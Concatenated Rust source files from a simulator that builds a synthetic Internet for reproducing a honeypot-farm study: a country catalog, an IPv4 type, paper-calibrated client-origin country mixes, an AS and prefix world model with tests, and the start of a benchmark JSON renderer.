        name: "France",
        continent: Europe,
    },
    Country {
        code: "BG",
        name: "Bulgaria",
        continent: Europe,
    },
    Country {
        code: "RO",
        name: "Romania",
        continent: Europe,
    },
    Country {
        code: "GB",
        name: "United Kingdom",
        continent: Europe,
    },
    Country {
        code: "IT",
        name: "Italy",
        continent: Europe,
    },
    Country {
        code: "CA",
        name: "Canada",
        continent: NorthAmerica,
    },
    Country {
        code: "CH",
        name: "Switzerland",
        continent: Europe,
    },
    Country {
        code: "LT",
        name: "Lithuania",
        continent: Europe,
    },
    Country {
        code: "KR",
        name: "South Korea",
        continent: Asia,
    },
    Country {
        code: "HK",
        name: "Hong Kong",
        continent: Asia,
    },
    Country {
        code: "ID",
        name: "Indonesia",
        continent: Asia,
    },
    Country {
        code: "TH",
        name: "Thailand",
        continent: Asia,
    },
    Country {
        code: "MY",
        name: "Malaysia",
        continent: Asia,
    },
    Country {
        code: "PH",
        name: "Philippines",
        continent: Asia,
    },
    Country {
        code: "PK",
        name: "Pakistan",
        continent: Asia,
    },
    Country {
        code: "BD",
        name: "Bangladesh",
        continent: Asia,
    },
    Country {
        code: "TR",
        name: "Turkey",
        continent: Asia,
    },
    Country {
        code: "SA",
        name: "Saudi Arabia",
        continent: Asia,
    },
    Country {
        code: "AE",
        name: "United Arab Emirates",
        continent: Asia,
    },
    Country {
        code: "IL",
        name: "Israel",
        continent: Asia,
    },
    Country {
        code: "KZ",
        name: "Kazakhstan",
        continent: Asia,
    },
    Country {
        code: "UA",
        name: "Ukraine",
        continent: Europe,
    },
    Country {
        code: "PL",
        name: "Poland",
        continent: Europe,
    },
    Country {
        code: "CZ",
        name: "Czechia",
        continent: Europe,
    },
    Country {
        code: "AT",
        name: "Austria",
        continent: Europe,
    },
    Country {
        code: "BE",
        name: "Belgium",
        continent: Europe,
    },
    Country {
        code: "ES",
        name: "Spain",
        continent: Europe,
    },
    Country {
        code: "PT",
        name: "Portugal",
        continent: Europe,
    },
    Country {
        code: "GR",
        name: "Greece",
        continent: Europe,
    },
    Country {
        code: "HU",
        name: "Hungary",
        continent: Europe,
    },
    Country {
        code: "SK",
        name: "Slovakia",
        continent: Europe,
    },
    Country {
        code: "SI",
        name: "Slovenia",
        continent: Europe,
    },
    Country {
        code: "HR",
        name: "Croatia",
        continent: Europe,
    },
    Country {
        code: "RS",
        name: "Serbia",
        continent: Europe,
    },
    Country {
        code: "MD",
        name: "Moldova",
        continent: Europe,
    },
    Country {
        code: "LV",
        name: "Latvia",
        continent: Europe,
    },
    Country {
        code: "EE",
        name: "Estonia",
        continent: Europe,
    },
    Country {
        code: "FI",
        name: "Finland",
        continent: Europe,
    },
    Country {
        code: "NO",
        name: "Norway",
        continent: Europe,
    },
    Country {
        code: "DK",
        name: "Denmark",
        continent: Europe,
    },
    Country {
        code: "IE",
        name: "Ireland",
        continent: Europe,
    },
    Country {
        code: "AR",
        name: "Argentina",
        continent: SouthAmerica,
    },
    Country {
        code: "CL",
        name: "Chile",
        continent: SouthAmerica,
    },
    Country {
        code: "CO",
        name: "Colombia",
        continent: SouthAmerica,
    },
    Country {
        code: "PE",
        name: "Peru",
        continent: SouthAmerica,
    },
    Country {
        code: "EC",
        name: "Ecuador",
        continent: SouthAmerica,
    },
    Country {
        code: "VE",
        name: "Venezuela",
        continent: SouthAmerica,
    },
    Country {
        code: "UY",
        name: "Uruguay",
        continent: SouthAmerica,
    },
    Country {
        code: "PA",
        name: "Panama",
        continent: NorthAmerica,
    },
    Country {
        code: "CR",
        name: "Costa Rica",
        continent: NorthAmerica,
    },
    Country {
        code: "GT",
        name: "Guatemala",
        continent: NorthAmerica,
    },
    Country {
        code: "DO",
        name: "Dominican Republic",
        continent: NorthAmerica,
    },
    Country {
        code: "ZA",
        name: "South Africa",
        continent: Africa,
    },
    Country {
        code: "EG",
        name: "Egypt",
        continent: Africa,
    },
    Country {
        code: "NG",
        name: "Nigeria",
        continent: Africa,
    },
    Country {
        code: "KE",
        name: "Kenya",
        continent: Africa,
    },
    Country {
        code: "MA",
        name: "Morocco",
        continent: Africa,
    },
    Country {
        code: "TN",
        name: "Tunisia",
        continent: Africa,
    },
    Country {
        code: "GH",
        name: "Ghana",
        continent: Africa,
    },
    Country {
        code: "SN",
        name: "Senegal",
        continent: Africa,
    },
    Country {
        code: "MU",
        name: "Mauritius",
        continent: Africa,
    },
    Country {
        code: "AU",
        name: "Australia",
        continent: Oceania,
    },
    Country {
        code: "NZ",
        name: "New Zealand",
        continent: Oceania,
    },
    Country {
        code: "FJ",
        name: "Fiji",
        continent: Oceania,
    },
    Country {
        code: "NP",
        name: "Nepal",
        continent: Asia,
    },
    Country {
        code: "LK",
        name: "Sri Lanka",
        continent: Asia,
    },
    Country {
        code: "MM",
        name: "Myanmar",
        continent: Asia,
    },
    Country {
        code: "KH",
        name: "Cambodia",
        continent: Asia,
    },
    Country {
        code: "MN",
        name: "Mongolia",
        continent: Asia,
    },
    Country {
        code: "UZ",
        name: "Uzbekistan",
        continent: Asia,
    },
    Country {
        code: "GE",
        name: "Georgia",
        continent: Asia,
    },
    Country {
        code: "AM",
        name: "Armenia",
        continent: Asia,
    },
    Country {
        code: "AZ",
        name: "Azerbaijan",
        continent: Asia,
    },
    Country {
        code: "QA",
        name: "Qatar",
        continent: Asia,
    },
    Country {
        code: "KW",
        name: "Kuwait",
        continent: Asia,
    },
    Country {
        code: "JO",
        name: "Jordan",
        continent: Asia,
    },
    Country {
        code: "IS",
        name: "Iceland",
        continent: Europe,
    },
    Country {
        code: "LU",
        name: "Luxembourg",
        continent: Europe,
    },
    Country {
        code: "CY",
        name: "Cyprus",
        continent: Europe,
    },
    Country {
        code: "MT",
        name: "Malta",
        continent: Europe,
    },
    Country {
        code: "AL",
        name: "Albania",
        continent: Europe,
    },
    Country {
        code: "MK",
        name: "North Macedonia",
        continent: Europe,
    },
    Country {
        code: "BA",
        name: "Bosnia and Herzegovina",
        continent: Europe,
    },
    Country {
        code: "BY",
        name: "Belarus",
        continent: Europe,
    },
];

/// Number of countries in the catalog.
pub fn count() -> usize {
    CATALOG.len()
}

/// Look up a country by dense id. Panics on out-of-range ids (they can only be
/// produced by corrupting a `CountryId`).
pub fn get(id: CountryId) -> &'static Country {
    &CATALOG[id.0 as usize]
}

/// Find a country id by ISO code.
pub fn by_code(code: &str) -> Option<CountryId> {
    CATALOG
        .iter()
        .position(|c| c.code == code)
        .map(|i| CountryId(i as u16))
}

/// Continent of a country id.
pub fn continent(id: CountryId) -> Continent {
    get(id).continent
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn codes_are_unique() {
        let mut codes: Vec<&str> = CATALOG.iter().map(|c| c.code).collect();
        codes.sort();
        let before = codes.len();
        codes.dedup();
        assert_eq!(codes.len(), before, "duplicate ISO code in catalog");
    }

    #[test]
    fn catalog_is_large_enough_for_deployment() {
        // The farm spans 55 countries and the client mixes reference ~30 more.
        assert!(count() >= 90, "catalog has {} countries", count());
    }

    #[test]
    fn lookup_by_code() {
        let cn = by_code("CN").unwrap();
        assert_eq!(get(cn).name, "China");
        assert_eq!(continent(cn), Continent::Asia);
        assert_eq!(by_code("XX"), None);
    }

    #[test]
    fn continent_codes() {
        assert_eq!(Continent::Asia.code(), "AS");
        assert_eq!(Continent::NorthAmerica.to_string(), "NA");
    }

    #[test]
    fn all_continents_present() {
        use std::collections::BTreeSet;
        let set: BTreeSet<&str> = CATALOG.iter().map(|c| c.continent.code()).collect();
        assert_eq!(set.len(), 6);
    }
}
