//! Compact IPv4 address type used across the simulation.
//!
//! A `u32` newtype rather than `std::net::Ipv4Addr` because the simulator does
//! arithmetic on addresses (prefix masking, sequential allocation) and stores
//! hundreds of thousands of them in columnar form.

use serde::{Deserialize, Serialize};

/// An IPv4 address as a big-endian u32.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default, Serialize, Deserialize,
)]
pub struct Ip4(pub u32);

impl Ip4 {
    /// Build from dotted-quad octets.
    pub const fn new(a: u8, b: u8, c: u8, d: u8) -> Self {
        Ip4(((a as u32) << 24) | ((b as u32) << 16) | ((c as u32) << 8) | (d as u32))
    }

    /// Octets in network order.
    pub const fn octets(self) -> [u8; 4] {
        [
            (self.0 >> 24) as u8,
            (self.0 >> 16) as u8,
            (self.0 >> 8) as u8,
            self.0 as u8,
        ]
    }

    /// Parse dotted-quad notation.
    pub fn parse(s: &str) -> Option<Self> {
        let mut parts = s.split('.');
        let mut octs = [0u8; 4];
        for o in octs.iter_mut() {
            let p = parts.next()?;
            // Reject empty / oversized / non-numeric components.
            if p.is_empty() || p.len() > 3 {
                return None;
            }
            *o = p.parse().ok()?;
        }
        if parts.next().is_some() {
            return None;
        }
        Some(Ip4::new(octs[0], octs[1], octs[2], octs[3]))
    }

    /// Convert to the std type (for the live network front-end).
    pub fn to_std(self) -> std::net::Ipv4Addr {
        std::net::Ipv4Addr::from(self.0)
    }
}

impl From<std::net::Ipv4Addr> for Ip4 {
    fn from(a: std::net::Ipv4Addr) -> Self {
        Ip4(u32::from(a))
    }
}

impl std::fmt::Display for Ip4 {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let o = self.octets();
        write!(f, "{}.{}.{}.{}", o[0], o[1], o[2], o[3])
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn octet_roundtrip() {
        let ip = Ip4::new(192, 0, 2, 17);
        assert_eq!(ip.octets(), [192, 0, 2, 17]);
        assert_eq!(ip.to_string(), "192.0.2.17");
    }

    #[test]
    fn parse_valid() {
        assert_eq!(Ip4::parse("10.0.0.1"), Some(Ip4::new(10, 0, 0, 1)));
        assert_eq!(Ip4::parse("255.255.255.255"), Some(Ip4(0xffff_ffff)));
        assert_eq!(Ip4::parse("0.0.0.0"), Some(Ip4(0)));
    }

    #[test]
    fn parse_invalid() {
        for s in [
            "",
            "1.2.3",
            "1.2.3.4.5",
            "256.0.0.1",
            "a.b.c.d",
            "1..2.3",
            "1.2.3.1234",
        ] {
            assert_eq!(Ip4::parse(s), None, "should reject {s:?}");
        }
    }

    #[test]
    fn std_conversion() {
        let ip = Ip4::new(203, 0, 113, 9);
        assert_eq!(Ip4::from(ip.to_std()), ip);
    }

    proptest! {
        #[test]
        fn prop_display_parse_roundtrip(v: u32) {
            let ip = Ip4(v);
            prop_assert_eq!(Ip4::parse(&ip.to_string()), Some(ip));
        }
    }
}
