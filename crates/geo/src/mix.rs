//! Client-origin country mixes, calibrated to the paper.
//!
//! Section 7 reports the top origin countries per session category:
//! - overall: China 31%, India 9%, US 8%, Russia 5%, Brazil 5%, Taiwan 5%,
//!   Mexico 3%, Iran 3% (Figure 10a),
//! - FAIL_LOG: US first, then China, Japan, Vietnam, Singapore, India,
//! - CMD: US, China, Japan, India, Brazil (Figure 10b),
//! - NO_CMD: Russia, Germany, US, Vietnam, Sweden,
//! - CMD+URI: US, Netherlands, France, Bulgaria, Romania (Figure 23e).
//!
//! A [`CountryMix`] is a weighted categorical distribution over countries with
//! O(log n) sampling via a cumulative-weight table. The named constructors
//! below encode the calibrated mixes; the remainder mass is spread over a
//! long tail of the rest of the catalog so every category exhibits the paper's
//! "clients come from everywhere" breadth.

use rand::Rng;
use serde::{Deserialize, Serialize};

use crate::country::{self, CountryId};

/// A weighted distribution over countries.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct CountryMix {
    /// Country ids, parallel to `cum`.
    ids: Vec<CountryId>,
    /// Cumulative weights; last entry is the total.
    cum: Vec<u64>,
}

impl CountryMix {
    /// Build from `(iso_code, weight_permille)` pairs plus a tail weight that
    /// is spread uniformly over all catalog countries not explicitly listed.
    ///
    /// Panics on unknown ISO codes (a config error worth failing fast on).
    pub fn from_weights(head: &[(&str, u32)], tail_permille: u32) -> Self {
        let mut ids = Vec::new();
        let mut weights: Vec<u64> = Vec::new();
        for (code, w) in head {
            let id = country::by_code(code)
                .unwrap_or_else(|| panic!("unknown country code {code:?} in mix"));
            ids.push(id);
            weights.push(*w as u64 * 1000); // scale so tail splits stay integral
        }
        // Spread the tail over unlisted countries.
        let listed: std::collections::BTreeSet<CountryId> = ids.iter().copied().collect();
        let unlisted: Vec<CountryId> = (0..country::count() as u16)
            .map(CountryId)
            .filter(|id| !listed.contains(id))
            .collect();
        if tail_permille > 0 && !unlisted.is_empty() {
            let per = (tail_permille as u64 * 1000) / unlisted.len() as u64;
            let per = per.max(1);
            for id in unlisted {
                ids.push(id);
                weights.push(per);
            }
        }
        let mut cum = Vec::with_capacity(weights.len());
        let mut acc = 0u64;
        for w in weights {
            acc += w;
            cum.push(acc);
        }
        assert!(acc > 0, "mix has zero total weight");
        CountryMix { ids, cum }
    }

    /// A single-country (degenerate) mix.
    pub fn single(code: &str) -> Self {
        Self::from_weights(&[(code, 1000)], 0)
    }

    /// Sample a country.
    pub fn sample<R: Rng + ?Sized>(&self, rng: &mut R) -> CountryId {
        let total = *self.cum.last().unwrap();
        let x = rng.gen_range(0..total);
        let idx = self.cum.partition_point(|&c| c <= x);
        self.ids[idx]
    }

    /// Exact probability of a country under this mix (for tests/reports).
    pub fn probability(&self, id: CountryId) -> f64 {
        let total = *self.cum.last().unwrap() as f64;
        let mut prev = 0u64;
        let mut p = 0.0;
        for (i, &c) in self.cum.iter().enumerate() {
            if self.ids[i] == id {
                p += (c - prev) as f64 / total;
            }
            prev = c;
        }
        p
    }

    /// Number of countries with non-zero mass.
    pub fn support(&self) -> usize {
        self.ids.len()
    }

    // ---- Paper-calibrated mixes -------------------------------------------

    /// Overall client mix (Fig. 10a): CN 31%, IN 9%, US 8%, RU 5%, BR 5%,
    /// TW 5%, MX 3%, IR 3%, long tail 31%.
    pub fn overall() -> Self {
        Self::from_weights(
            &[
                ("CN", 310),
                ("IN", 90),
                ("US", 80),
                ("RU", 50),
                ("BR", 50),
                ("TW", 50),
                ("MX", 30),
                ("IR", 30),
            ],
            310,
        )
    }

    /// Scanning (NO_CRED) sources: US, China, Taiwan, Russia, Iran lead.
    pub fn scanning() -> Self {
        Self::from_weights(
            &[
                ("CN", 300),
                ("US", 110),
                ("TW", 80),
                ("RU", 60),
                ("IR", 50),
                ("IN", 50),
                ("BR", 40),
            ],
            310,
        )
    }

    /// Scouting (FAIL_LOG) sources: US top, then CN, JP, VN, SG, IN (Asia-heavy).
    pub fn scouting() -> Self {
        Self::from_weights(
            &[
                ("US", 160),
                ("CN", 140),
                ("JP", 90),
                ("VN", 80),
                ("SG", 70),
                ("IN", 70),
            ],
            390,
        )
    }

    /// NO_CMD sources: RU, DE, US, VN, SE lead (datacenter-heavy).
    pub fn no_cmd() -> Self {
        Self::from_weights(
            &[
                ("RU", 220),
                ("DE", 130),
                ("US", 120),
                ("VN", 90),
                ("SE", 70),
            ],
            370,
        )
    }

    /// CMD (intrusion) sources: US, CN, JP, IN, BR lead.
    pub fn command() -> Self {
        Self::from_weights(
            &[
                ("US", 170),
                ("CN", 160),
                ("JP", 90),
                ("IN", 80),
                ("BR", 70),
                ("RU", 50),
                ("SA", 40),
            ],
            340,
        )
    }

    /// CMD+URI sources: US, NL, FR, BG, RO lead; Africa nearly absent.
    pub fn command_uri() -> Self {
        Self::from_weights(
            &[
                ("US", 230),
                ("NL", 130),
                ("FR", 110),
                ("BG", 90),
                ("RO", 90),
                ("DE", 60),
            ],
            290,
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::SmallRng;
    use rand::SeedableRng;

    #[test]
    fn overall_mix_marginals_match_paper() {
        let m = CountryMix::overall();
        let cn = country::by_code("CN").unwrap();
        let us = country::by_code("US").unwrap();
        // Tail mass is split with integer division, so marginals are within
        // a small rounding tolerance of the calibrated values.
        assert!((m.probability(cn) - 0.31).abs() < 5e-3);
        assert!((m.probability(us) - 0.08).abs() < 5e-3);
    }

    #[test]
    fn sampling_converges_to_weights() {
        let m = CountryMix::overall();
        let cn = country::by_code("CN").unwrap();
        let mut rng = SmallRng::seed_from_u64(7);
        let n = 200_000;
        let hits = (0..n).filter(|_| m.sample(&mut rng) == cn).count();
        let frac = hits as f64 / n as f64;
        assert!((frac - 0.31).abs() < 0.01, "got {frac}");
    }

    #[test]
    fn probabilities_sum_to_one() {
        for m in [
            CountryMix::overall(),
            CountryMix::scanning(),
            CountryMix::scouting(),
            CountryMix::no_cmd(),
            CountryMix::command(),
            CountryMix::command_uri(),
        ] {
            let total: f64 = (0..country::count() as u16)
                .map(|i| m.probability(CountryId(i)))
                .sum();
            assert!((total - 1.0).abs() < 1e-9, "total={total}");
        }
    }

    #[test]
    fn single_mix_is_degenerate() {
        let m = CountryMix::single("DE");
        let mut rng = SmallRng::seed_from_u64(1);
        let de = country::by_code("DE").unwrap();
        for _ in 0..100 {
            assert_eq!(m.sample(&mut rng), de);
        }
    }

    #[test]
    fn broad_support() {
        // Every calibrated mix must have a long tail (paper: clients come
        // from nearly everywhere).
        for m in [CountryMix::overall(), CountryMix::command()] {
            assert!(m.support() > 80, "support={}", m.support());
        }
    }

    #[test]
    #[should_panic]
    fn unknown_code_panics() {
        CountryMix::from_weights(&[("ZZ", 100)], 0);
    }
}
