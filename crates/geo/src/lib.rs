//! Synthetic Internet registry for the honeyfarm reproduction.
//!
//! The paper geolocates client IPs with MaxMind's commercial API and maps them
//! to ASes with routing data. Neither is available offline, and the *actual*
//! client addresses are private anyway, so this crate builds a synthetic but
//! internally-consistent Internet:
//!
//! - a catalog of countries with continents ([`country`]),
//! - a population of autonomous systems, each homed in one country and one
//!   network class ([`asn`]),
//! - a longest-prefix-match table mapping IPv4 space to ASes ([`prefix`]),
//! - a [`World`] that ties it together and answers MaxMind-style lookups,
//! - paper-calibrated client-origin country mixes per session category
//!   ([`mix`]).
//!
//! The substitution is faithful because every analysis in the paper only needs
//! a *consistent* mapping IP → (AS, country, continent); the marginal country
//! distributions are calibrated to the percentages the paper reports.

pub mod asn;
pub mod country;
pub mod ip;
pub mod mix;
pub mod prefix;
pub mod world;

pub use asn::{AsInfo, Asn, NetworkClass};
pub use country::{Continent, Country, CountryId};
pub use ip::Ip4;
pub use mix::CountryMix;
pub use prefix::{Prefix, PrefixTable};
pub use world::{RegionRelation, World, WorldConfig};
