//! The assembled synthetic Internet: AS population + prefix plan + lookups.
//!
//! `World::build` deterministically allocates a population of ASes across
//! countries (weighted by the overall client mix so AS density mirrors client
//! density), gives each AS one or more disjoint prefixes out of a synthetic
//! address plan, and freezes a longest-prefix-match table. The result answers
//! the two questions the paper asks MaxMind/routing data:
//!
//! - `locate(ip)` → (AS, country, continent)  — the MaxMind substitute,
//! - `region_relation(a, b)` → same country / same continent / different
//!   continent — the regional-diversity classifier of Section 7.6.

use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};
use serde::{Deserialize, Serialize};

use crate::asn::{AsInfo, Asn, NetworkClass};
use crate::country::{self, Continent, CountryId};
use crate::ip::Ip4;
use crate::mix::CountryMix;
use crate::prefix::{Prefix, PrefixTable};

/// Regional relation between a client and a honeypot (Section 7.6 / Fig. 16).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum RegionRelation {
    /// Same country (and therefore same continent).
    SameCountry,
    /// Different country, same continent.
    SameContinent,
    /// Different continent.
    DifferentContinent,
}

impl RegionRelation {
    /// Label used in figures.
    pub fn label(self) -> &'static str {
        match self {
            RegionRelation::SameCountry => "in-country",
            RegionRelation::SameContinent => "in-continent",
            RegionRelation::DifferentContinent => "out-of-continent",
        }
    }
}

/// Configuration for building a [`World`].
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct WorldConfig {
    /// Number of client-side ASes to allocate. The paper observes clients from
    /// ~17.7k ASes; the default keeps that breadth even at reduced scale.
    pub client_as_count: u32,
    /// Fraction (permille) of client ASes per network class, in
    /// [`NetworkClass::ALL`] order. Must sum to 1000.
    pub class_permille: [u32; 5],
    /// Prefix length handed to each client AS (one prefix per AS plus a
    /// second one for ~20% of ASes, mirroring multi-prefix origins).
    pub client_prefix_len: u8,
}

impl Default for WorldConfig {
    fn default() -> Self {
        WorldConfig {
            client_as_count: 17_700,
            // residential-heavy, some DC/cloud — matches the paper's focus.
            class_permille: [550, 200, 150, 40, 60],
            client_prefix_len: 20,
        }
    }
}

impl WorldConfig {
    /// A small world for fast unit tests.
    pub fn tiny() -> Self {
        WorldConfig {
            client_as_count: 300,
            class_permille: [550, 200, 150, 40, 60],
            client_prefix_len: 20,
        }
    }
}

/// The synthetic Internet.
#[derive(Debug, Clone)]
pub struct World {
    /// All allocated ASes, indexed by `Asn.0 - FIRST_ASN`.
    ases: Vec<AsInfo>,
    /// Routing table over all client prefixes.
    table: PrefixTable,
    /// Per-AS list of prefixes (parallel structure for allocation queries).
    as_prefixes: Vec<Vec<Prefix>>,
}

/// First synthetic ASN handed out.
const FIRST_ASN: u32 = 4_200_000_000; // private 32-bit ASN range

impl World {
    /// Deterministically build a world from a seed and config.
    pub fn build(seed: u64, cfg: &WorldConfig) -> Self {
        assert_eq!(
            cfg.class_permille.iter().sum::<u32>(),
            1000,
            "class_permille must sum to 1000"
        );
        let mut rng = SmallRng::seed_from_u64(seed ^ 0x9e37_79b9_7f4a_7c15);
        let mix = CountryMix::overall();

        let mut ases = Vec::with_capacity(cfg.client_as_count as usize);
        let mut as_prefixes: Vec<Vec<Prefix>> = Vec::with_capacity(cfg.client_as_count as usize);
        let mut table = PrefixTable::new();

        // Sequential, gap-free allocation cursor through synthetic space.
        // We walk 16.0.0.0 upward in client_prefix_len steps; this never
        // overlaps, so insert_unchecked is safe (freeze() verifies in debug).
        let step = 1u64 << (32 - cfg.client_prefix_len);
        let mut cursor: u64 = (16u64) << 24;

        for i in 0..cfg.client_as_count {
            let asn = Asn(FIRST_ASN + i);
            let class = Self::pick_class(&mut rng, &cfg.class_permille);
            let ctry = mix.sample(&mut rng);
            ases.push(AsInfo {
                asn,
                country: ctry,
                class,
            });
            let n_prefixes = if rng.gen_ratio(1, 5) { 2 } else { 1 };
            let mut prefixes = Vec::with_capacity(n_prefixes);
            for _ in 0..n_prefixes {
                assert!(
                    cursor + step <= u32::MAX as u64 + 1,
                    "address plan exhausted"
                );
                let p = Prefix::new(Ip4(cursor as u32), cfg.client_prefix_len);
                table.insert_unchecked(p, asn);
                prefixes.push(p);
                cursor += step;
            }
            as_prefixes.push(prefixes);
        }
        table.freeze();
        World {
            ases,
            table,
            as_prefixes,
        }
    }

    fn pick_class(rng: &mut SmallRng, permille: &[u32; 5]) -> NetworkClass {
        let x = rng.gen_range(0..1000u32);
        let mut acc = 0;
        for (i, &w) in permille.iter().enumerate() {
            acc += w;
            if x < acc {
                return NetworkClass::ALL[i];
            }
        }
        NetworkClass::ALL[4]
    }

    /// Number of ASes in the world.
    pub fn as_count(&self) -> usize {
        self.ases.len()
    }

    /// Info for an AS (panics on unknown synthetic ASN).
    pub fn as_info(&self, asn: Asn) -> &AsInfo {
        &self.ases[(asn.0 - FIRST_ASN) as usize]
    }

    /// All ASes.
    pub fn ases(&self) -> &[AsInfo] {
        &self.ases
    }

    /// ASes homed in a given country (linear scan; cached by callers that care).
    pub fn ases_in(&self, ctry: CountryId) -> Vec<Asn> {
        self.ases
            .iter()
            .filter(|a| a.country == ctry)
            .map(|a| a.asn)
            .collect()
    }

    /// MaxMind-substitute lookup: AS + country + continent of an address.
    pub fn locate(&self, ip: Ip4) -> Option<AsInfo> {
        self.table.lookup(ip).map(|r| *self.as_info(r.asn))
    }

    /// Draw a uniformly random address homed in `asn`.
    pub fn random_ip_in_as<R: Rng + ?Sized>(&self, asn: Asn, rng: &mut R) -> Ip4 {
        let prefixes = &self.as_prefixes[(asn.0 - FIRST_ASN) as usize];
        let total: u64 = prefixes.iter().map(|p| p.size()).sum();
        let mut i = rng.gen_range(0..total);
        for p in prefixes {
            if i < p.size() {
                return p.addr(i);
            }
            i -= p.size();
        }
        unreachable!("index within total size")
    }

    /// Draw a random address from a random AS in `ctry`; falls back to a
    /// uniformly random AS when the country has none (possible for tiny
    /// test worlds).
    pub fn random_ip_in_country<R: Rng + ?Sized>(&self, ctry: CountryId, rng: &mut R) -> Ip4 {
        // Rejection-sample ASes: country-weighted allocation makes hits fast
        // for the high-mass countries that dominate traffic.
        for _ in 0..64 {
            let idx = rng.gen_range(0..self.ases.len());
            if self.ases[idx].country == ctry {
                return self.random_ip_in_as(self.ases[idx].asn, rng);
            }
        }
        let all = self.ases_in(ctry);
        if let Some(&asn) = all.first() {
            return self.random_ip_in_as(asn, rng);
        }
        let idx = rng.gen_range(0..self.ases.len());
        self.random_ip_in_as(self.ases[idx].asn, rng)
    }

    /// Regional relation between two countries (Section 7.6).
    pub fn region_relation(a: CountryId, b: CountryId) -> RegionRelation {
        if a == b {
            RegionRelation::SameCountry
        } else if country::continent(a) == country::continent(b) {
            RegionRelation::SameContinent
        } else {
            RegionRelation::DifferentContinent
        }
    }

    /// Continent of a country (re-exported for convenience).
    pub fn continent(c: CountryId) -> Continent {
        country::continent(c)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn build_is_deterministic() {
        let a = World::build(42, &WorldConfig::tiny());
        let b = World::build(42, &WorldConfig::tiny());
        assert_eq!(a.ases(), b.ases());
        let ip = Ip4::parse("16.0.5.1").unwrap();
        assert_eq!(a.locate(ip).map(|i| i.asn), b.locate(ip).map(|i| i.asn));
    }

    #[test]
    fn different_seeds_differ() {
        let a = World::build(1, &WorldConfig::tiny());
        let b = World::build(2, &WorldConfig::tiny());
        assert_ne!(a.ases(), b.ases());
    }

    #[test]
    fn every_allocated_ip_locates_to_its_as() {
        let w = World::build(7, &WorldConfig::tiny());
        let mut rng = SmallRng::seed_from_u64(3);
        for info in w.ases().iter().take(50) {
            let ip = w.random_ip_in_as(info.asn, &mut rng);
            let found = w.locate(ip).expect("allocated ip must be routable");
            assert_eq!(found.asn, info.asn);
            assert_eq!(found.country, info.country);
        }
    }

    #[test]
    fn country_sampling_lands_in_country() {
        let w = World::build(7, &WorldConfig::tiny());
        let cn = country::by_code("CN").unwrap();
        let mut rng = SmallRng::seed_from_u64(9);
        for _ in 0..20 {
            let ip = w.random_ip_in_country(cn, &mut rng);
            assert_eq!(w.locate(ip).unwrap().country, cn);
        }
    }

    #[test]
    fn as_country_distribution_mirrors_mix() {
        let w = World::build(11, &WorldConfig::default());
        let cn = country::by_code("CN").unwrap();
        let frac = w.ases().iter().filter(|a| a.country == cn).count() as f64 / w.as_count() as f64;
        assert!((frac - 0.31).abs() < 0.02, "CN AS fraction {frac}");
    }

    #[test]
    fn region_relations() {
        let us = country::by_code("US").unwrap();
        let ca = country::by_code("CA").unwrap();
        let cn = country::by_code("CN").unwrap();
        assert_eq!(World::region_relation(us, us), RegionRelation::SameCountry);
        assert_eq!(
            World::region_relation(us, ca),
            RegionRelation::SameContinent
        );
        assert_eq!(
            World::region_relation(us, cn),
            RegionRelation::DifferentContinent
        );
    }

    #[test]
    fn unrouted_space_locates_to_none() {
        let w = World::build(5, &WorldConfig::tiny());
        assert!(w.locate(Ip4::parse("1.1.1.1").unwrap()).is_none());
    }
}
