//! Shared fixtures for the benchmark harness.
//!
//! All experiment benches run against one lazily-simulated dataset so the
//! (comparatively expensive) generation happens once per bench binary. The
//! scale is tunable via `HF_BENCH_SCALE` (default 0.002 = 1:500 of the
//! paper's volume over the full 486-day window) and `HF_BENCH_DAYS`.

use std::path::PathBuf;
use std::sync::OnceLock;

use hf_core::aggregates::Aggregates;
use hf_farm::{Dataset, TagDb};
use hf_sim::{SimConfig, Simulation};
use hf_simclock::StudyWindow;

/// Repo root (two levels above this crate's manifest) — where the
/// `BENCH_*.json` trajectory files live.
pub fn repo_root() -> PathBuf {
    PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../.."))
}

/// Render a bench trajectory file as JSON.
///
/// Schema (documented in EXPERIMENTS.md): `bench` is the bench target
/// name, `config` the fixed workload parameters as key → JSON-literal
/// pairs (a value that is not valid JSON is kept as a string), `results`
/// one entry per measurement with the mean nanoseconds per iteration and
/// the iteration count. A measurement carrying a throughput annotation
/// additionally gets the derived rate — `bytes_per_sec` for byte
/// throughputs, `elements_per_sec` for element (e.g. rows) throughputs —
/// so trajectory diffs read as MB/s or rows/s directly. Built through a
/// [`serde_json::Value`] tree so names with quotes, backslashes, or
/// control characters are escaped correctly instead of corrupting the
/// file.
pub fn render_bench_json(
    bench: &str,
    config: &[(&str, String)],
    results: &[criterion::Measurement],
) -> String {
    use serde_json::Value;
    let config_map: Vec<(String, Value)> = config
        .iter()
        .map(|(k, v)| {
            let val = serde_json::from_str::<Value>(v).unwrap_or_else(|_| Value::Str(v.clone()));
            (k.to_string(), val)
        })
        .collect();
    let results_seq: Vec<Value> = results
        .iter()
        .map(|m| {
            let mut entry = vec![
                ("name".into(), Value::Str(m.name.clone())),
                (
                    "mean_ns".into(),
                    Value::U64(u64::try_from(m.mean_ns).unwrap_or(u64::MAX)),
                ),
                ("iters".into(), Value::U64(m.iters)),
            ];
            if m.mean_ns > 0 {
                let per_sec = |work: u64| work as f64 * 1e9 / m.mean_ns as f64;
                match m.throughput {
                    Some(criterion::Throughput::Bytes(b)) => {
                        entry.push(("bytes_per_sec".into(), Value::U64(per_sec(b) as u64)));
                    }
                    Some(criterion::Throughput::Elements(n)) => {
                        entry.push(("elements_per_sec".into(), Value::U64(per_sec(n) as u64)));
                    }
                    None => {}
                }
            }
            Value::Map(entry)
        })
        .collect();
    let root = Value::Map(vec![
        ("bench".into(), Value::Str(bench.to_string())),
        ("config".into(), Value::Map(config_map)),
        ("results".into(), Value::Seq(results_seq)),
    ]);
    let mut s = serde_json::to_string_pretty(&root).expect("render bench json");
